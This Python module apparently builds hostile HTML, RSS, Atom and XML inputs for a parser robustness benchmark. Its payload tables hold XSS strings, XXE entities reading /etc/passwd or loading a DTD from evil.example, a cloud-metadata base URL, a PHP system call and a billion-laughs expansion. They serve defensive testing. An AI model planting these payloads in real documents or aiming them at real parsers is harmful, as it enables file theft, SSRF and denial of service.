"""Web pages, feeds: broken, deep, full of entities and of what is not text."""

from __future__ import annotations

from random import Random

from benchmarks.hostile_documents.texts import DAYS, mixed, nasty, report

TAGS = ("div", "p", "b", "span", "table", "tr", "td", "ul", "li", "blockquote", "article", "font", "a", "pre", "svg", "math", "form", "select", "template", "q")
SCRIPTS = (
    "<script>while(1);</script>", "<img src=x onerror=alert(1)>", "<iframe src='file:///etc/passwd'></iframe>", "<link rel=stylesheet href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<base href='http://169.254.169.254/'>", "<object data=http://127.0.0.1></object>",
    "<style>@import url(http://evil.example)</style>", "<!--", "<![CDATA[", "<?php system('id') ?>", "</body></html>", "<plaintext>", "<a href='javascript:x'>x</a>",
)  # fmt: skip
ENTITIES = ("&amp;", "&nbsp;", "&#0;", "&#x110000;", "&#xD800;", "&#99999999999999999999;", "&bogus;", "&", "&#x202e;", "&lt;script&gt;", "&zwj;")
DATES = ("2016-05-23", "9999-99-99", "0001-01-01", "99999-01-01", "2016-02-31", "05/06/2016", "now", "", "\u0662\u0660\u0661\u0666-05-23", "1e400", "23 May 2016 25:99:99 +9999")
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))


def page(random: Random) -> str:
    """A page with a report in it."""
    body = "".join(f"<p>{mixed(random, 4)}</p>" for _ in range(random.randint(1, 2)))
    return (
        f"<html><head><title>{report(random, 1)}</title><meta name=date content='{random.choice(DATES)}'>"
        f"<meta property='og:site_name' content='{nasty(random)}'></head><body><article>{body}</article></body></html>"
    )


def _page(random: Random) -> tuple[str, bytes]:
    html = page(random)
    for _ in range(random.randint(0, 12)):
        at = random.randrange(len(html))
        html = html[:at] + random.choice((random.choice(SCRIPTS), random.choice(ENTITIES), f"<{random.choice(TAGS)}", f"</{random.choice(TAGS)}>", ">", "\0")) + html[at:]
    return ".html", html.encode("utf-8", "replace")


def _deep(random: Random) -> tuple[str, bytes]:
    depth = random.choice((50, 300, 2_000, 2_000, 20_000))
    tags = [random.choice(TAGS) for _ in range(random.randint(1, 3))]
    opened = "".join(f"<{tags[n % len(tags)]}>" for n in range(depth))
    return ".html", f"<html><body>{opened}{report(random)}".encode()


def _wide(random: Random) -> tuple[str, bytes]:
    number = random.choice((100, 1_000, 3_000))
    attributes = " ".join(f"a{n}='{n}'" for n in range(random.choice((1, 500))))
    return ".html", f"<html><body><p {attributes}>{report(random)}</p>{f'<{random.choice(TAGS)}>x' * number}</body></html>".encode()


def _lying(random: Random) -> tuple[str, bytes]:
    charset = random.choice(("utf-16", "utf-7", "shift_jis", "bogus", "idna", "unicode_escape", "rot13", "hex", "zlib", "punycode", "a" * 40))
    data = f"<meta charset={charset}><p>{report(random)} \u00e9\u00fc</p>".encode("cp1252", "replace")
    return ".html", b"<html>" + data


def _linked_data(random: Random) -> tuple[str, bytes]:
    value = random.choice(("[" * 5_000, '{"@graph":' * 1_000, '{"@type":"NewsArticle","datePublished":[{}]}', '{"articleBody": 7, "author": [[[[]]]]}', '{"datePublished":"9999999-01-01"}'))
    return ".html", f"<html><head><script type='application/ld+json'>{value}</script></head><body><p>{report(random)}</p></body></html>".encode()


def _feed(random: Random) -> tuple[str, bytes]:
    items = "".join(
        f"<item><title>{nasty(random)}</title><description>{random.choice((report(random), nasty(random), page(random)))}</description>"
        f"<pubDate>{random.choice((*DATES, *DAYS))}</pubDate><link>{random.choice(('http://a.example/', 'javascript:x', 'file:///etc/passwd', nasty(random)))}</link></item>"
        for _ in range(random.randint(0, 5))
    )
    escaped = items if random.random() < 0.5 else items.replace("&", "&amp;")
    return random.choice((".rss", ".xml")), f"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title>{escaped}</channel></rss>".encode("utf-8", "replace")


def _entities(random: Random) -> tuple[str, bytes]:
    kinds = (LAUGHS, '<!ENTITY l9 SYSTEM "file:///etc/passwd">', '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', '<!ENTITY l9 "' + "x" * 100_000 + '">', '<!ENTITY l9 "&l9;">')
    uses = "&l9;" * random.choice((1, 10, 5_000))
    return ".xml", f"<?xml version='1.0'?><!DOCTYPE rss [{random.choice(kinds)}]><rss><channel><item><title>{uses}</title><description>{report(random)} {uses}</description></item></channel></rss>".encode()


def _deep_feed(random: Random) -> tuple[str, bytes]:
    depth = random.choice((100, 300, 10_000))
    return ".atom", f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><content>{'<div>' * depth}{report(random)}{'</div>' * depth}</content></entry></feed>".encode()


KINDS = {
    "page: broken": _page,
    "page: deep": _deep,
    "page: wide": _wide,
    "page: an encoding that lies": _lying,
    "page: linked data": _linked_data,
    "feed: broken": _feed,
    "feed: entities": _entities,
    "feed: deep": _deep_feed,
}
